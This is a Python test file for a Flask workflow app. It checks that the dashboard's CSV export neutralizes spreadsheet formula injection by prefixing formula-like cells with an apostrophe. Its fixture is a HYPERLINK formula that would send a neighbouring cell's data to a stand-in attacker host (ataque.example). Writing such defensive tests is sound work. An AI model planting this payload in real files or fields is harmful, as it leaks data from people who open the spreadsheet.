"""Whoever names a procedure (an analyst's manifest), a step, a service or an office named it
``=HYPERLINK("https://…";"Ver detalle")``; a supervisor downloaded the dashboard's CSV, which
is made for a spreadsheet to open as it is, and the spreadsheet ran the cell as a formula (a link
that sends the file's neighbouring cells away, or worse). Now a text cell that starts like a
formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) is written after an apostrophe, so it
stays text; numbers, negative ones too, and the page's own tables stay as they were."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from flask import Flask

from tests.fixtures.engine import ApiClient, make_token
from tests.fixtures.identity import Web, password_of
from tests.worklists.helpers import BUNDLE, KEY
from worklists.spreadsheet import cell_text, csv_text

FORMULA = '=HYPERLINK("https://ataque.example/?d="&A2;"Ver detalle")'


def _renamed_bundle(tmp_path: Path, name: str) -> Path:
    folder = tmp_path / KEY
    shutil.copytree(BUNDLE, folder)
    manifest = folder / "manifest.yaml"
    lines = [f"name: '{name}'" if line.startswith("name:") else line
             for line in manifest.read_text(encoding="utf-8").splitlines()]
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def test_a_procedure_named_like_a_formula_stays_text_in_the_dashboards_csv(identity_app: Flask,
                                                                             tmp_path: Path) -> None:
    api = ApiClient(identity_app, make_token(identity_app, "analistas", "admin"))
    deployed = api.deploy(_renamed_bundle(tmp_path, FORMULA.replace("'", "''")))
    assert deployed.status_code == 201, deployed.get_json()
    assert api.start(KEY, {"solicitante": "Ana"}).status_code == 201
    supervisor = Web(identity_app.test_client())
    supervisor.sign_in("supervisora", password_of("supervisora"))
    response = supervisor.client.get("/bandeja/tablero/pendientes.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in names, rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row), rows
    page = supervisor.client.get("/bandeja/tablero/")
    assert "&#39;=HYPERLINK" not in page.get_data(as_text=True)  # the page shows the name as it is


def test_every_formula_start_is_neutralized_and_numbers_are_not() -> None:
    text = csv_text(["a", "b", "c"], [["+1+1", "@SUMA(A1)", "\tx"], ["-2+3", -3, -2.5], ["\r=1", "Norte", None]])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1] == ["'+1+1", "'@SUMA(A1)", "'\tx"]
    assert rows[2] == ["'-2+3", "-3", "-2,5"]
    assert rows[3] == ["'\r=1", "Norte", ""]
    assert cell_text("=1+1") == "=1+1"  # what pages show is not a file: no apostrophe there
